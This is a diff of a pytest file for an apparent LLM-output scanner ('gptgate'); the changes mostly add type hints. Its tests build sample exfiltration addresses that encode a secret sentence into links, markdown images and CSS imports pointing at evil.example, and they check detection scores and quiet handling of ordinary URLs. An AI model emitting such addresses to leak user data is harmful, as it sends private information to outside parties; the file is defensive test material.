@@ -6,6 +6,7 @@ from urllib.parse import quote, quote_plus
 import pytest
 
 from gptgate.core.finding import Origin, Segment
+from gptgate.detectors import TextInspector
 
 SECRET = "The customer's account number is 8841 and the code is pear."
 PACKED = b64encode(SECRET.encode()).decode()
@@ -13,7 +14,7 @@ SAFE = urlsafe_b64encode(SECRET.encode()).decode().rstrip("=")
 PLAIN = quote_plus(SECRET)
 
 
-def found(inspector, text: str, origin: Origin = Origin.ASSISTANT) -> dict[str, tuple[str, int]]:
+def found(inspector: TextInspector, text: str, origin: Origin = Origin.ASSISTANT) -> dict[str, tuple[str, int]]:
     """Kind → what was found and its points."""
     findings = inspector.inspect([Segment((), origin, text)])
     return {one.kind: (text[one.start : one.end], one.points) for one in findings if one.kind.startswith("exfil.")}
@@ -30,7 +31,7 @@ def found(inspector, text: str, origin: Origin = Origin.ASSISTANT) -> dict[str, 
         f"https://{SAFE[:40]}.evil.example/p.png",
     ],
 )
-def test_text_packed_into_an_address_is_found(inspector, address) -> None:
+def test_text_packed_into_an_address_is_found(inspector: TextInspector, address: str) -> None:
     assert found(inspector, f"see {address} now") == {"exfil.link": (address, 60)}
     assert found(inspector, f"see [here]({address}).") == {"exfil.link": (address, 60)}
     assert found(inspector, f'<a href="{address}">here</a>') == {"exfil.link": (address, 60)}
@@ -56,30 +57,32 @@ def test_text_packed_into_an_address_is_found(inspector, address) -> None:
         "@import URL( '{}' );",
     ],
 )
-def test_whatever_is_fetched_when_it_is_shown_counts_as_an_image(inspector, scheme, frame) -> None:
+def test_whatever_is_fetched_when_it_is_shown_counts_as_an_image(
+    inspector: TextInspector, scheme: str, frame: str
+) -> None:
     address = f"{scheme}evil.example/log?d={PACKED}"
     assert found(inspector, frame.format(address))["exfil.image"] == (address, 70)
 
 
 @pytest.mark.parametrize("scheme", ["HTTPS://", "https:\\\\", "https:/"])
-def test_a_link_may_be_written_as_browsers_take_it(inspector, scheme) -> None:
+def test_a_link_may_be_written_as_browsers_take_it(inspector: TextInspector, scheme: str) -> None:
     address = f"{scheme}evil.example/log?d={PACKED}"
     assert found(inspector, f"see {address} now") == {"exfil.link": (address, 60)}
     assert found(inspector, f"see [here](//evil.example/{SAFE})") == {"exfil.link": (f"//evil.example/{SAFE}", 60)}
 
 
-def test_an_image_may_hold_no_sentence(inspector) -> None:
+def test_an_image_may_hold_no_sentence(inspector: TextInspector) -> None:
     address = f"//evil.example/?q={PLAIN}"
     assert found(inspector, f"![]({address})") == {"exfil.image": (address, 70)}
     assert found(inspector, f"![](https:{address})")["exfil.image"] == (f"https:{address}", 70)
 
 
-def test_a_link_with_a_long_sentence_counts_less(inspector) -> None:
+def test_a_link_with_a_long_sentence_counts_less(inspector: TextInspector) -> None:
     address = f"https://evil.example/?q={PLAIN}+and+three+more"
     assert found(inspector, address) == {"exfil.link": (address, 30)}
 
 
-def test_what_cannot_be_read_counts_less(inspector) -> None:
+def test_what_cannot_be_read_counts_less(inspector: TextInspector) -> None:
     token = "IQoJb3JpZ2luX2VjEJ7" + "x9Kd83LsQ0aPz7RtVn" * 12
     address = f"https://b.s3.amazonaws.example/o.png?X-Amz-Security-Token={token}&X-Amz-Expires=300"
     assert found(inspector, address) == {"exfil.link": (address, 30)}
@@ -101,17 +104,17 @@ def test_what_cannot_be_read_counts_less(inspector) -> None:
         "https://www.youtube.com/watch?v=dQw4w9WgXcQ&list=PLrAXtmErZgOeiKm4sgNOknGvNjby9efdf",
     ],
 )
-def test_ordinary_addresses_are_quiet(inspector, text) -> None:
+def test_ordinary_addresses_are_quiet(inspector: TextInspector, text: str) -> None:
     assert found(inspector, text) == {}
 
 
 @pytest.mark.parametrize("origin", list(Origin))
-def test_only_what_a_model_writes_is_looked_at(inspector, origin) -> None:
+def test_only_what_a_model_writes_is_looked_at(inspector: TextInspector, origin: Origin) -> None:
     assert bool(found(inspector, f"https://e.co/?d={PACKED}", origin)) == (
         origin in {Origin.ASSISTANT, Origin.TOOL_CALL}
     )
 
 
-def test_an_address_that_never_ends_is_found(inspector) -> None:
+def test_an_address_that_never_ends_is_found(inspector: TextInspector) -> None:
     long = "https://e.co/?d=" + PACKED.rstrip("=") + "a" * 5000
     assert found(inspector, long)["exfil.link"][1] in {30, 60}
